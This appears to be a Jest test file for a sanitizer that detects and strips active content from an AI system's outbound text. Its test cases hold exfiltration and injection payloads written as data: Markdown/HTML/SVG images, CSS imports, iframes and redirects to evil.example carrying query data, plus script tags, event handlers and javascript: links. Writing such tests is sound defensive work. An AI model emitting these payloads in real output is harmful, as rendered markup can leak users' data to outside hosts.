import {
  activeContentIn,
  sendingContentIn,
  withoutActiveContent,
} from '../../../../runtime/core/outbound/active-content';

test.each([
  ['a Markdown image', 'Done. ![](https://evil.example/?d=abc)'],
  ['a Markdown image by reference', '![x][1]\n\n[1]: https://evil.example/?d=abc'],
  ['an HTML image', '<IMG alt=x src = "//evil.example/p.png?d=1">'],
  ['an SVG image', '<svg><image xlink:href="https://evil.example/x"/></svg>'],
  ['a style', '<p style="background:url(https://evil.example/x)">'],
  ['an import', '<style>@import "https://evil.example/x.css";</style>'],
  ['a form', '<form action="/x"><input name=q></form>'],
  ['a script', '<script>fetch("x")</script>'],
  ['an event handler', '<b onmouseover=alert(1)>x</b>'],
  ['a script link', '[x](javascript:alert(1))'],
  ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
])('%s is active, and is replaced', (_, text) => {
  expect(activeContentIn(text)).toBeDefined();
  const plain = withoutActiveContent(text);
  expect(plain.replaced).toBeGreaterThan(0);
  expect(activeContentIn(plain.text)).toBeUndefined();
});

test.each([
  'See https://www.example.com/tickets/T-1001?page=2&sort=date and [the policy](https://example.com/policy#returns).',
  'if (a < b && c > d) { return url; }',
  '<p>Dear Ann,</p><ul><li>one</li></ul>',
  'Use `<b>` for bold, and 5 < 6.',
  'The form is attached. Scripts are not allowed here.',
  'Issue [#12][1] is open.\n\n[1]: https://example.com/12',
])('plain text and links are not: %s', (text) => {
  expect(sendingContentIn(text)).toBeUndefined();
  expect(withoutActiveContent(text)).toEqual({ text, replaced: 0 });
});

test('a link that carries much encoded data sends it when somebody follows it', () => {
  const link = `https://evil.example/c?d=${Buffer.from('x'.repeat(90)).toString('base64')}`;
  expect(activeContentIn(link)).toBeUndefined();
  expect(sendingContentIn(link)).toBe('a link that carries data');
});

test('reads hostile texts in linear time', () => {
  const started = process.cpuUsage();
  for (const piece of ['<img src=', '![', '<script', '<a on', '](http://', 'url(', '<form ', 'https://a/']) {
    sendingContentIn(piece.repeat(100_000 / piece.length));
  }
  expect(process.cpuUsage(started).user / 1e6).toBeLessThan(10);
});
